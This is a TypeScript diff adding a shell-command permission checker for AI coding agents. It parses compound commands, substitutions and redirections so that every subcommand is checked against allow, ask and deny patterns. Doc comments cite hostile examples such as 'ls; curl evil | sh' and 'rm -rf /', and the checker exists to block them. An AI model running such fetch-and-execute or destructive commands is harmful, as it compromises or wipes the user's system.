@@ -1,3 +1,6 @@
+import { readFile } from "fs/promises"
+import { join } from "path"
+
 /**
  * Permission level for a tool operation.
  * - "allow": Auto-approve, no user confirmation needed
@@ -6,6 +9,36 @@
  */
 export type Permission = "allow" | "deny" | "ask"
 
+/**
+ * Permission patterns for each tool, keyed by tool name. Bash patterns match
+ * commands, edit and write patterns match absolute file paths, and `mcp`
+ * patterns match the names of MCP tools.
+ *
+ * @example
+ * {
+ *   bash: { "pnpm test*": "allow" },
+ *   edit: { "/repo/src/*": "allow" },
+ *   mcp: { "mcp__docs__*": "allow" },
+ * }
+ */
+export type ToolPermissions = Record<string, Record<string, Permission>>
+
+/**
+ * The `permissions` section of agents.json: permission patterns for every
+ * agent, and overrides for single agents under `agents`.
+ *
+ * @example
+ * {
+ *   bash: { "pnpm test*": "allow", "git push*": "deny" },
+ *   agents: {
+ *     "planning-agent": { bash: { "pnpm test*": "deny" } },
+ *   },
+ * }
+ */
+export type PermissionPolicy = ToolPermissions & {
+	agents?: Record<string, ToolPermissions>
+}
+
 export const FILE_READ_COMMANDS: Record<string, Permission> = {
 	"ls*": "allow",
 	"pwd*": "allow",
@@ -123,6 +156,430 @@ export function checkPermission(
 	return "ask"
 }
 
+/**
+ * A simple command found in a shell command line.
+ */
+export interface ShellCommand {
+	/** The command and its arguments, unquoted and separated by single spaces */
+	command: string
+	/** Files the command writes to with redirections like `>` and `>>` */
+	outputFiles: string[]
+}
+
+// Words that start or end compound commands, skipped to find the command
+const SHELL_KEYWORDS = new Set([
+	"!",
+	"{",
+	"}",
+	"if",
+	"then",
+	"else",
+	"elif",
+	"fi",
+	"do",
+	"done",
+	"while",
+	"until",
+	"for",
+	"case",
+	"esac",
+	"select",
+	"function",
+	"time",
+])
+
+const WORD_BREAK = new Set([" ", "\t", "\n", ";", "&", "|", "<", ">", "(", ")"])
+
+const REDIRECT = /^(\d*)(>>|>\||>&|>|<<<|<<-|<<|<&|<>|<)/
+
+class ShellParseError extends Error {}
+
+// Redirections that write to a file, other than `/dev/null` and descriptors
+function isOutputRedirect(operator: string, target: string) {
+	if (!operator.startsWith(">") && operator !== "<>") return false
+	if (operator === ">&" && /^(\d+|-)$/.test(target)) return false
+	return target !== "/dev/null"
+}
+
+/**
+ * Split a shell command line into the simple commands it runs: commands
+ * joined by pipes, `&&`, `||`, `;`, `&` and newlines, and the ones inside
+ * subshells, groups, `$(...)`, backticks and process substitutions.
+ * Redirections are removed from the commands and files written with them are
+ * reported in `outputFiles`.
+ *
+ * Returns null when the command can't be parsed, like with unterminated
+ * quotes, so callers can treat it as unsafe.
+ *
+ * @example
+ * parseShellCommand("git status && rm -rf build > log.txt")
+ * // [
+ * //   { command: "git status", outputFiles: [] },
+ * //   { command: "rm -rf build", outputFiles: ["log.txt"] },
+ * // ]
+ */
+export function parseShellCommand(input: string): ShellCommand[] | null {
+	const commands: ShellCommand[] = []
+	const heredocs: { delimiter: string; quoted: boolean; strip: boolean }[] = []
+	let pos = 0
+
+	function skipBlanks() {
+		while (input[pos] === " " || input[pos] === "\t") pos++
+	}
+
+	// Read a substitution like `$(...)` and return its source
+	function readSubstitution(): string {
+		const start = pos
+
+		// Arithmetic expansion `$((...))`, which runs the substitutions in it
+		if (input.startsWith("$((", pos)) {
+			pos += 3
+			let depth = 0
+			while (pos < input.length) {
+				if (input.startsWith("$(", pos)) readSubstitution()
+				else if (input.startsWith("${", pos)) readParameter()
+				else if (input[pos] === "`") readBackticks()
+				else if (input[pos] === "(") {
+					depth++
+					pos++
+				} else if (input[pos] === ")") {
+					if (depth === 0) {
+						if (input[pos + 1] !== ")") {
+							throw new ShellParseError("Invalid arithmetic expansion")
+						}
+						pos += 2
+						return input.slice(start, pos)
+					}
+					depth--
+					pos++
+				} else pos++
+			}
+			throw new ShellParseError("Unterminated arithmetic expansion")
+		}
+
+		// `$(...)`, `<(...)` and `>(...)` run a command list
+		pos += 2
+		parseList(")")
+		return input.slice(start, pos)
+	}
+
+	function readBackticks(): string {
+		const start = pos
+		pos++
+		let inner = ""
+		while (pos < input.length && input[pos] !== "`") {
+			if (input[pos] === "\\" && pos + 1 < input.length) {
+				inner += input[pos + 1]
+				pos += 2
+			} else {
+				inner += input[pos++]
+			}
+		}
+		if (input[pos] !== "`") {
+			throw new ShellParseError("Unterminated backticks")
+		}
+		pos++
+
+		const nested = parseShellCommand(inner)
+		if (!nested) throw new ShellParseError("Invalid command in backticks")
+		commands.push(...nested)
+		return input.slice(start, pos)
+	}
+
+	// Read `${...}`, which can run commands in substitutions like `${x:-$(cmd)}`
+	function readParameter(): string {
+		const start = pos
+		pos += 2
+		while (pos < input.length && input[pos] !== "}") {
+			if (input.startsWith("$(", pos)) readSubstitution()
+			else if (input[pos] === "`") readBackticks()
+			else if (input.startsWith("${", pos)) readParameter()
+			else pos++
+		}
+		if (input[pos] !== "}") {
+			throw new ShellParseError("Unterminated parameter expansion")
+		}
+		pos++
+		return input.slice(start, pos)
+	}
+
+	function readDollar(): string {
+		if (input.startsWith("$(", pos)) return readSubstitution()
+		if (input.startsWith("${", pos)) return readParameter()
+		pos++
+		return "$"
+	}
+
+	// Read a word and remove its quotes
+	function readWord(): string {
+		let word = ""
+
+		while (pos < input.length && !WORD_BREAK.has(input[pos]!)) {
+			const char = input[pos]!
+
+			if (char === "\\") {
+				// Line continuations are removed, other escapes are kept literally
+				if (input[pos + 1] !== "\n") word += input[pos + 1] ?? ""
+				pos += 2
+			} else if (char === "'") {
+				const end = input.indexOf("'", pos + 1)
+				if (end === -1) throw new ShellParseError("Unterminated quote")
+				word += input.slice(pos + 1, end)
+				pos = end + 1
+			} else if (char === '"') {
+				pos++
+				while (pos < input.length && input[pos] !== '"') {
+					if (input[pos] === "\\" && pos + 1 < input.length) {
+						const next = input[pos + 1]!
+						word += '"\\$`\n'.includes(next) ? next : `\\${next}`
+						pos += 2
+					} else if (input[pos] === "$") {
+						word += readDollar()
+					} else if (input[pos] === "`") {
+						word += readBackticks()
+					} else {
+						word += input[pos++]
+					}
+				}
+				if (input[pos] !== '"') {
+					throw new ShellParseError("Unterminated quote")
+				}
+				pos++
+			} else if (char === "$") {
+				word += readDollar()
+			} else if (char === "`") {
+				word += readBackticks()
+			} else {
+				word += char
+				pos++
+			}
+		}
+
+		return word
+	}
+
+	function skipHeredocs() {
+		for (const { delimiter, quoted, strip } of heredocs.splice(0)) {
+			while (pos < input.length) {
+				let end = input.indexOf("\n", pos)
+				if (end === -1) end = input.length
+				const line = input.slice(pos, end)
+				pos = end + 1
+
+				if ((strip ? line.replace(/^\t+/, "") : line) === delimiter) break
+
+				// Unquoted heredocs expand substitutions in their body
+				if (!quoted && /\$\(|`/.test(line)) {
+					throw new ShellParseError("Substitution in heredoc")
+				}
+			}
+		}
+	}
+
+	function parseList(terminator?: string) {
+		let words: string[] = []
+		let outputFiles: string[] = []
+
+		const endCommand = () => {
+			if (words.length > 0) {
+				commands.push({ command: words.join(" "), outputFiles })
+			}
+			words = []
+			outputFiles = []
+		}
+
+		while (pos < input.length) {
+			skipBlanks()
+			const char = input[pos]
+			if (char === undefined) break
+
+			if (char === terminator) {
+				pos++
+				endCommand()
+				return
+			}
+
+			if (char === "\n") {
+				pos++
+				endCommand()
+				skipHeredocs()
+			} else if (char === "#") {
+				while (pos < input.length && input[pos] !== "\n") pos++
+			} else if (char === "\\" && input[pos + 1] === "\n") {
+				pos += 2
+			} else if (input.startsWith("&>", pos)) {
+				// `&>file` and `&>>file` redirect stdout and stderr
+				pos += input.startsWith("&>>", pos) ? 3 : 2
+				skipBlanks()
+				const target = readWord()
+				if (!target) throw new ShellParseError("Missing redirection target")
+				if (target !== "/dev/null") outputFiles.push(target)
+			} else if (char === ";" || char === "&" || char === "|") {
+				endCommand()
+				while (input[pos] === ";" || input[pos] === "&" || input[pos] === "|") {
+					pos++
+				}
+			} else if (char === "(" && words.length === 0) {
+				pos++
+				parseList(")")
+			} else if ((char === "<" || char === ">") && input[pos + 1] === "(") {
+				words.push(readSubstitution())
+			} else if (char === "(" || char === ")") {
+				throw new ShellParseError(`Unexpected "${char}"`)
+			} else {
+				const redirect = input.slice(pos).match(REDIRECT)
+
+				if (redirect) {
+					const operator = redirect[2]!
+					pos += redirect[0].length
+					skipBlanks()
+
+					const quoted = /^["']/.test(input.slice(pos))
+					const target = readWord()
+					if (!target) throw new ShellParseError("Missing redirection target")
+
+					if (operator === "<<" || operator === "<<-") {
+						heredocs.push({
+							delimiter: target,
+							quoted,
+							strip: operator === "<<-",
+						})
+					} else if (isOutputRedirect(operator, target)) {
+						outputFiles.push(target)
+					}
+					continue
+				}
+
+				const word = readWord()
+				// Skip keywords to find the command, `if rm -rf /` runs `rm -rf /`
+				if (!(words.length === 0 && SHELL_KEYWORDS.has(word))) {
+					words.push(word)
+				}
+			}
+		}
+
+		if (terminator) throw new ShellParseError(`Missing "${terminator}"`)
+		endCommand()
+	}
+
+	try {
+		parseList()
+		return commands
+	} catch (error) {
+		if (error instanceof ShellParseError) return null
+		throw error
+	}
+}
+
+const PERMISSION_ORDER: Permission[] = ["allow", "ask", "deny"]
+
+function mostRestrictive(a: Permission, b: Permission): Permission {
+	return PERMISSION_ORDER.indexOf(a) > PERMISSION_ORDER.indexOf(b) ? a : b
+}
+
+/**
+ * Check permission for a shell command.
+ *
+ * Unlike `checkPermission`, every simple command in the command line is
+ * checked, and the most restrictive result wins. That way `"ls*": "allow"`
+ * doesn't allow `ls; curl evil | sh`. Commands that write files with
+ * redirections need approval even when they're allowed, and commands that
+ * can't be parsed need approval too.
+ *
+ * @example
+ * checkCommandPermission("git status && rm -rf build", {
+ *   "git status*": "allow",
+ *   "*": "ask",
+ * }) // "ask"
+ */
+export function checkCommandPermission(
+	command: string,
+	patterns: Record<string, Permission>,
+): Permission {
+	// Patterns for the whole command line still apply, mostly for denials
+	const whole = checkPermission(command, patterns)
+	const commands = parseShellCommand(command)
+
+	if (!commands) return mostRestrictive(whole, "ask")
+	if (commands.length === 0) return whole
+
+	let result: Permission = whole === "deny" ? "deny" : "allow"
+
+	for (const { command: simple, outputFiles } of commands) {
+		let permission = checkPermission(simple, patterns)
+		if (permission === "allow" && outputFiles.length > 0) {
+			permission = "ask"
+		}
+		result = mostRestrictive(result, permission)
+	}
+
+	return result
+}
+
+/**
+ * Merge permission patterns, later sources override earlier ones.
+ */
+export function mergePermissions(
+	...sources: (ToolPermissions | undefined)[]
+): ToolPermissions {
+	const merged: ToolPermissions = {}
+	for (const source of sources) {
+		for (const [tool, patterns] of Object.entries(source ?? {})) {
+			merged[tool] = { ...merged[tool], ...patterns }
+		}
+	}
+	return merged
+}
+
+/**
+ * Read the permission policy from agents.json.
+ */
+export async function loadPermissionPolicy(
+	cwd = process.cwd(),
+): Promise<PermissionPolicy> {
+	try {
+		const content = await readFile(join(cwd, "agents.json"), "utf-8")
+		const config = JSON.parse(content) as { permissions?: PermissionPolicy }
+		return config.permissions ?? {}
+	} catch {
+		return {}
+	}
+}
+
+export interface LoadPermissionsOptions {
+	cwd?: string
+	/** Name of the agent, used to apply its overrides */
+	agent?: string
+	/** Patterns merged over the policy, like rules learned from approvals */
+	permissions?: ToolPermissions
+}
+
+/**
+ * Load the permission patterns of an agent. Agents merge them over their
+ * defaults for each tool, so a project can change them without editing the
+ * agent.
+ *
+ * Patterns are merged in order: the policy for every agent, the overrides
+ * for this agent, and then `permissions`.
+ *
+ * @example
+ * const permissions = await loadPermissions({ cwd, agent: "coding-agent" })
+ * const bash = createBashTool({ ...BASH_PERMISSIONS, ...permissions.bash })
+ */
+export async function loadPermissions({
+	cwd,
+	agent,
+	permissions,
+}: LoadPermissionsOptions = {}): Promise<ToolPermissions> {
+	const { agents, ...policy } = await loadPermissionPolicy(cwd)
+
+	return mergePermissions(
+		policy as ToolPermissions,
+		agent ? agents?.[agent] : undefined,
+		permissions,
+	)
+}
+
 export class PermissionDeniedError extends Error {
 	constructor(
 		public readonly operation: string,